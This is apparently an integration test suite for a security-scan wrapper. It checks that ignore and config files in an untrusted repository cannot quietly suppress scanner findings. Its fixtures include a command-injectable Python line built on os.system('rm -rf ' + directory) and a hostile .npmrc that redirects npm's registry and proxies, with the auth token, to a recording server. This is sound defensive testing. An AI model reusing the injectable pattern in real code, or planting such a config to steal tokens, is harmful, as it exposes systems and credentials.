//! Issue 8: the scanned repository is untrusted. Its scanner config and ignore files
//! (`.gitleaksignore`, `.gitleaks.toml`, `.semgrepignore`, `trivy.yaml`, `.npmrc`) never make a
//! finding disappear unseen: scangate applies them as reported suppressions or keeps the scanner
//! from reading them and says so. Real scanners on repositories the tests build.

use std::ffi::OsString;
use std::io::{Read, Write};
use std::path::Path;
use std::process::Output;
use std::sync::{Arc, Mutex};

use serde_json::Value;

use crate::support::commit_all;
use crate::support::{
    assert_exit, checkout, random_token, read_summary, require_scanner, OfflineServices, Repo, Scangate, ALNUM,
};

struct Scan {
    output: Output,
    sarif: Value,
    summary: Value,
}

impl Scan {
    /// `scangate scan ROOT` with `extra` and the extra environment, keeping the SARIF log and
    /// the summary (written beside the repository, not in it).
    fn run(root: &Path, extra: &[&str], env: &[(&str, &str)]) -> Scan {
        let out = tempfile::tempdir().expect("temp dir");
        let mut args: Vec<OsString> = vec![
            "scan".into(),
            root.into(),
            "--sarif".into(),
            out.path().join("scan.sarif").into(),
            "--summary-json".into(),
            out.path().join("summary.json").into(),
        ];
        args.extend(extra.iter().map(OsString::from));
        let scangate = env
            .iter()
            .fold(Scangate::new(args), |scangate, (key, value)| scangate.env(key, value));
        let output = scangate.run();
        let sarif = std::fs::read(out.path().join("scan.sarif")).expect("SARIF written");
        Scan {
            sarif: serde_json::from_slice(&sarif).expect("SARIF is JSON"),
            summary: read_summary(&out.path().join("summary.json")),
            output,
        }
    }

    /// Every result of `tool`: (rule, path, the native suppression's justification if suppressed).
    fn results(&self, tool: &str) -> Vec<(String, String, Option<String>)> {
        let run = self.sarif["runs"]
            .as_array()
            .expect("runs")
            .iter()
            .find(|run| run["tool"]["driver"]["name"] == tool);
        let Some(run) = run else { return Vec::new() };
        let mut results: Vec<_> = run["results"]
            .as_array()
            .expect("results")
            .iter()
            .map(|result| {
                let path = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                    .as_str()
                    .unwrap_or_default()
                    .to_owned();
                let suppressed = result["suppressions"]
                    .as_array()
                    .and_then(|all| all.iter().find(|s| s["kind"] == "inSource"))
                    .map(|s| s["justification"].as_str().unwrap_or_default().to_owned());
                (result["ruleId"].as_str().unwrap().to_owned(), path, suppressed)
            })
            .collect();
        results.sort();
        results
    }

    /// The summary's `ignored_repository_configs[]` as (file, tool).
    fn ignored_configs(&self) -> Vec<(String, String)> {
        self.summary["ignored_repository_configs"]
            .as_array()
            .unwrap_or_else(|| panic!("ignored_repository_configs[] missing: {:#}", self.summary))
            .iter()
            .map(|c| {
                (
                    c["file"].as_str().unwrap().to_owned(),
                    c["tool"].as_str().unwrap().to_owned(),
                )
            })
            .collect()
    }

    fn stderr(&self) -> String {
        String::from_utf8_lossy(&self.output.stderr).into_owned()
    }

    /// Everything scangate wrote, for secret checks.
    fn all_output(&self) -> String {
        format!(
            "{}{}{}{}",
            self.sarif,
            self.summary,
            String::from_utf8_lossy(&self.output.stdout),
            self.stderr()
        )
    }
}

/// A row of [`Scan::results`].
fn result(rule: &str, path: &str, justification: Option<&str>) -> (String, String, Option<String>) {
    (rule.to_owned(), path.to_owned(), justification.map(str::to_owned))
}

fn github_token() -> String {
    format!("ghp_{}", random_token(ALNUM, 36))
}

#[test]
fn gitleaks_applies_gitleaksignore_as_reported_suppressions_and_never_reads_gitleaks_toml() {
    if !require_scanner("gitleaks") {
        return;
    }
    let repo = Repo::new();
    let (ignored_token, allowlisted_token) = (github_token(), github_token());
    repo.write("app/a.py", format!("x = 1\ntoken = \"{ignored_token}\"\n"))
        .write("vendor_b.py", format!("token = \"{allowlisted_token}\"\n"))
        .write(".gitleaksignore", "# test fixture, revoked\napp/a.py:github-pat:2\n")
        .write(
            ".gitleaks.toml",
            "[extend]\nuseDefault = true\n\n[[allowlists]]\npaths = ['''vendor_b\\.py''']\n",
        );
    crate::support::git_ok(repo.path(), &["init", "-q"]);
    commit_all(repo.path(), "secrets");
    let scan = Scan::run(repo.path(), &["--tools", "gitleaks"], &[]);
    // Before: gitleaks dropped both leaks itself, exit 0 with nothing to see.
    assert_exit(&scan.output, 1);
    assert_eq!(
        scan.results("gitleaks"),
        [
            result("github-pat", "app/a.py", Some("test fixture, revoked")),
            result("github-pat", "vendor_b.py", None),
        ]
    );
    assert_eq!(scan.summary["suppressed"], 1, "{:#}", scan.summary);
    assert_eq!(scan.summary["counts"]["critical"], 1, "{:#}", scan.summary);
    assert_eq!(
        scan.ignored_configs(),
        [(".gitleaks.toml".to_owned(), "gitleaks".to_owned())]
    );
    assert!(
        scan.stderr().contains(".gitleaks.toml") && scan.stderr().contains("--policy"),
        "{}",
        scan.stderr()
    );
    for token in [&ignored_token, &allowlisted_token] {
        assert!(!scan.all_output().contains(token.as_str()), "a secret value leaked");
    }
}

#[test]
fn gitleaks_dir_mode_applies_gitleaksignore_itself_with_repository_paths() {
    if !require_scanner("gitleaks") {
        return;
    }
    let repo = Repo::new();
    let token = github_token();
    repo.write("src/a.py", format!("token = \"{token}\"  # hi\n"))
        .write(".gitleaksignore", "# rotated already\nsrc/a.py:github-pat:1\n");
    let scan = Scan::run(repo.path(), &["--tools", "gitleaks"], &[]);
    // Before: gitleaks dropped the leak, exit 0 with nothing to see.
    assert_exit(&scan.output, 0);
    assert_eq!(
        scan.results("gitleaks"),
        [result("github-pat", "src/a.py", Some("rotated already"))]
    );
    assert_eq!(scan.summary["suppressed"], 1, "{:#}", scan.summary);
    assert!(!scan.all_output().contains(&token), "a secret value leaked");
}

#[test]
fn semgrepignore_in_the_repository_does_not_hide_findings() {
    if !require_scanner("semgrep") {
        return;
    }
    let repo = Repo::new();
    let code = "import os\n\ndef run(directory):\n    os.system(\"rm -rf \" + directory)\n";
    repo.write("src/app.py", code)
        .write("tests/helpers.py", code)
        .write("vendor/lib/run.py", code)
        .write(".semgrepignore", "src/\n");
    let scan = Scan::run(repo.path(), &["--tools", "semgrep", "--no-gate"], &[]);
    // Before: semgrep skipped src/, and its default exclusions skipped tests/ and vendor/,
    // where a change could put code no scanner reads.
    assert_exit(&scan.output, 0);
    let mut paths: Vec<String> = scan.results("semgrep").into_iter().map(|(_, path, _)| path).collect();
    paths.sort();
    assert_eq!(
        paths,
        ["src/app.py", "tests/helpers.py", "vendor/lib/run.py"],
        "{:#}",
        scan.sarif
    );
    assert_eq!(
        scan.ignored_configs(),
        [(".semgrepignore".to_owned(), "semgrep".to_owned())]
    );
    assert!(scan.stderr().contains(".semgrepignore"), "{}", scan.stderr());
}

#[test]
fn trivy_yaml_in_the_repository_is_not_read() {
    if !require_scanner("trivy") {
        return;
    }
    let repo = Repo::new();
    repo.write("Dockerfile", "FROM alpine:3.19\nRUN apk add curl\n").write(
        "trivy.yaml",
        "severity:\n  - CRITICAL\nmisconfiguration:\n  skip-files:\n    - Dockerfile\n",
    );
    let scan = Scan::run(repo.path(), &["--tools", "trivy", "--no-gate", "--offline"], &[]);
    // Before: trivy read trivy.yaml from its working directory and reported nothing.
    assert_exit(&scan.output, 0);
    let rules: Vec<String> = scan.results("trivy").into_iter().map(|(rule, _, _)| rule).collect();
    assert!(rules.iter().any(|rule| rule == "DS-0002"), "{rules:?}");
    assert_eq!(scan.ignored_configs(), [("trivy.yaml".to_owned(), "trivy".to_owned())]);
}

/// A tiny HTTP server that records every request head and answers 404.
struct Recorder {
    url: String,
    heads: Arc<Mutex<Vec<String>>>,
}

impl Recorder {
    fn start() -> Recorder {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        let url = format!("http://{}/", listener.local_addr().expect("address"));
        let heads = Arc::new(Mutex::new(Vec::new()));
        let seen = Arc::clone(&heads);
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).is_ok_and(|n| n == 1) {
                    head.push(byte[0]);
                }
                seen.lock().unwrap().push(String::from_utf8_lossy(&head).into_owned());
                let _ = stream.write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
            }
        });
        Recorder { url, heads }
    }

    fn requests(&self) -> Vec<String> {
        self.heads.lock().unwrap().clone()
    }
}

#[test]
fn npmrc_in_the_repository_cannot_redirect_npm_audit_or_leak_the_token() {
    if !require_scanner("npm") {
        return;
    }
    let services = OfflineServices::start();
    let hostile = Recorder::start();
    let token = random_token(ALNUM, 32);
    let flags = services.scan_flags();
    let registry = flags[2].to_str().expect("UTF-8 URL");
    let uri = |url: &str| url.trim_start_matches("http:").trim_end_matches('/').to_owned();
    let lockfile = std::fs::read_to_string(checkout().join("examples/vulnerable-app/package-lock.json")).unwrap();
    let manifest = std::fs::read_to_string(checkout().join("examples/vulnerable-app/package.json")).unwrap();
    let repo = Repo::new();
    repo.write("web/package-lock.json", lockfile)
        .write("web/package.json", manifest)
        .write(
            "web/.npmrc",
            format!(
                "registry={url}\n{hostile}/:_authToken=${{NPM_TOKEN}}\n{real}/:_authToken=${{NPM_TOKEN}}\n\
                 proxy={url}\nhttps-proxy={url}\nnoproxy=\n",
                url = hostile.url,
                hostile = uri(&hostile.url),
                real = uri(registry),
            ),
        );
    let mut extra = vec!["--tools", "npm-audit", "--no-gate"];
    extra.extend(flags.iter().map(|flag| flag.to_str().expect("UTF-8 flag")));
    let scan = Scan::run(repo.path(), &extra, &[("NPM_TOKEN", &token)]);
    // Before: npm read web/.npmrc and sent the audit through the repository's proxy (which saw
    // the request, and answered 404: npm-audit error, exit 2).
    assert_eq!(
        hostile.requests(),
        Vec::<String>::new(),
        "the repository's host was asked"
    );
    assert_exit(&scan.output, 0);
    let findings = scan.results("npm-audit");
    assert!(!findings.is_empty(), "{:#}", scan.summary);
    assert!(
        findings.iter().all(|(_, path, _)| path == "web/package-lock.json"),
        "{findings:?}"
    );
    assert_eq!(
        scan.ignored_configs(),
        [("web/.npmrc".to_owned(), "npm-audit".to_owned())]
    );
    assert!(!scan.all_output().contains(&token), "the token reached an output");
}
